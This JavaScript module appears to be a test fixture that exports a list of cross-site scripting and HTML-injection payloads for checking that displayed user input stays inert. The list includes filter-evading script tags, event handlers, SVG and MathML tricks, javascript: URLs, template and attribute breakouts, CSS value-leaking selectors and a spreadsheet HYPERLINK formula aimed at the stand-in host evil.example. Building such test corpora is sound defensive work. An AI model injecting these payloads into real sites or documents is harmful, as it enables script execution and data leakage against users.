// Hostile input that tries to run or fetch something when it is displayed. A payload that runs opens a dialog, and
// a payload that fetches makes a request to evil.example.
const run = n => `alert(${n})`
const evil = 'http://evil.example'

export const payloads = [
  // scripts, plain and disguised
  `<script>${run(1)}</script>`,
  `<ScRiPt src="${evil}/a.js"></sCrIpT>`,
  `<script/x>${run(2)}</script>`,
  `<<script>${run(3)}//<</script>`,
  `<scr<script>ipt>${run(4)}</scr</script>ipt>`,
  `</title></textarea></style></noscript><script>${run(5)}</script>`,
  `<!--><script>${run(6)}</script-->`,
  `<![CDATA[<script>${run(7)}</script>]]>`,
  // handlers
  `<img src=x onerror=${run(8)}>`,
  `<img/src/onerror=${run(9)}>`,
  `<img src="x\`<img src=y onerror=${run(10)}>">`,
  `<body onload=${run(11)}>`,
  `<input autofocus onfocus=${run(12)}>`,
  `<details open ontoggle=${run(13)}>`,
  `<video><source onerror=${run(14)}>`,
  `<audio src=x onerror=${run(15)}>`,
  `<marquee onstart=${run(16)}>`,
  `<select autofocus onfocus=${run(17)}>`,
  `<p style="animation: x 1s" onanimationstart=${run(18)}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=${run(19)}></b>`,
  // SVG and MathML
  `<svg onload=${run(20)}>`,
  `<svg><script>${run(21)}</script></svg>`,
  `<svg><animate onbegin=${run(22)} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run(23)}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run(24)}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run(25)}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run(26)}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run(27)}>">`,
  `<math href="javascript:${run(28)}"><mi>x</mi></math>`,
  // script URLs
  `<a href="javascript:${run(29)}">x</a>`,
  `<a href="java\tscript:${run(30)}">x</a>`,
  `<a href="&#106;avascript:${run(31)}">x</a>`,
  `<form action="javascript:${run(32)}"><button>x</button></form><button form=f formaction="javascript:${run(33)}">y</button>`,
  `<iframe src="javascript:${run(34)}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run(35)}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run(36)}</script>"></object><embed src="javascript:${run(37)}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run(38)}">`,
  `<meta http-equiv=refresh content="0;url=${evil}/away">`,
  `<base href="${evil}/"><script src="/b.js"></script>`,
  // breaking out of an attribute, a string, a template
  `" autofocus onfocus=${run(39)} x="`,
  `' onmouseover=${run(40)} style='position:fixed;inset:0' x='`,
  `"><img src=x onerror=${run(41)}>`,
  `';${run(42)}//`,
  `\${${run(43)}}`,
  `{{constructor.constructor('${run(44)}')()}}`,
  `{% raw %}{{ 7 | times: 7 }}<script>${run(45)}</script>{% endraw %}`,
  `</script><script>${run(46)}</script>`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(47)}>"}}}`,
  // fetching without scripts
  `<img src="${evil}/pixel.png">`,
  `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">`,
  `<picture><source srcset="${evil}/3.png"><img src=""></picture>`,
  `<link rel=stylesheet href="${evil}/b.css"><link rel=prefetch href="${evil}/c"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import "${evil}/d.css"; body{background:url(${evil}/e.png)} input[value^=a]{background:url(${evil}/leak?a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${evil}/f.woff2)}*{font-family:x}</style>`,
  `<p style="background-image:\\75\\72\\6c(${evil}/g.png)">x</p>`,
  `<div style="background:image-set('${evil}/h.png' 1x)">x</div>`,
  `<table background="${evil}/i.png"><tr><td background="${evil}/j.png">x</table>`,
  `<video poster="${evil}/k.png" src="${evil}/l.mp4" autoplay></video><track src="${evil}/m.vtt">`,
  `<svg><image href="${evil}/n.png"/><filter id=f><feImage href="${evil}/o.png"/></filter></svg>`,
  `<a href="${evil}/" ping="${evil}/ping">x</a><portal src="${evil}/p"></portal>`,
  // character tricks
  `\u202e<script>${run(48)}</script>\u202c`,
  `\uff1cscript\uff1e${run(49)}\uff1c/script\uff1e`,
  `<img src=x onerror\u00a0=${run(50)}>\u2028${run(51)}`,
  `%3Cscript%3E${run(52)}%3C/script%3E`,
  `&lt;script&gt;${run(53)}&lt;/script&gt;`,
  `=HYPERLINK("${evil}/q","x")`,
]

// line returns a payload for fields with one line of printable characters: a subject, a name, a reply.
export const line = text => text.replace(/[\t\u2028]/g, ' ')

// ascii returns a payload for ASCII-only fields.
export const ascii = text => line(text).replace(/[^\x20-\x7e]/g, '?')
